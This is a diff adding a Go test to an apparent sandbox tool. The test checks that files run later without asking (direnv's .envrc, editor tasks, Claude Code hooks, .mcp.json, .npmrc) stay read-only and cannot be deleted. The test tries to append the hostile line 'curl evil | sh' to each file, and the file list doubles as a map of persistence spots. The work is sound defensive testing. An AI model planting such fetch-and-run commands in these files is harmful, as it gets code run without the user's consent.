@@ -386,3 +386,41 @@ func TestSandboxDropsCapabilities(t *testing.T) {
 		})
 	}
 }
+
+// What is run or obeyed outside the sandbox later, without asking, stays as it was: direnv's .envrc, an
+// editor's tasks and run configurations (found whatever their case), Claude Code's project settings and
+// hooks, the MCP servers of .mcp.json, a package manager's configuration. Before, only .git and .warden
+// were kept, and a sandboxed command run unasked could leave a script for direnv or VS Code to run.
+func TestSandboxKeepsWhatRunsLaterReadOnly(t *testing.T) {
+	for _, b := range backends(t) {
+		t.Run(string(b), func(t *testing.T) {
+			t.Setenv("TMPDIR", t.TempDir())
+			h := sandboxed(t, b, false)
+			ws := h.env.Workspace
+			files := []string{".envrc", ".vscode/tasks.json", ".idea/runConfigurations/app.xml", ".claude/settings.json",
+				".claude/hooks/fmt.sh", ".mcp.json", ".npmrc"}
+			for _, f := range files {
+				if err := os.MkdirAll(filepath.Dir(filepath.Join(ws, f)), 0o755); err != nil {
+					t.Fatal(err)
+				}
+				if err := os.WriteFile(filepath.Join(ws, f), []byte("kept\n"), 0o644); err != nil {
+					t.Fatal(err)
+				}
+			}
+			for _, f := range files {
+				mustFail(t, h.run("echo 'curl evil | sh' >> "+f), "appending to "+f)
+				mustFail(t, h.run("rm -f "+f), "removing "+f)
+				if got, _ := os.ReadFile(filepath.Join(ws, f)); string(got) != "kept\n" {
+					t.Errorf("%s is now %q", f, got)
+				}
+			}
+			mustFail(t, h.run("echo x > .claude/hooks/new.sh"), "adding a hook script")
+			mustSucceed(t, h.run("echo ok > sub/file"), "writing beside them")
+			// A new file beside a kept one: bubblewrap binds the kept one alone; Landlock grants the folder
+			// entry by entry, as it does the workspace's root.
+			if b == sandbox.Bubblewrap {
+				mustSucceed(t, h.run("echo ok > .vscode/notes.md"), "writing a new file beside tasks.json")
+			}
+		})
+	}
+}
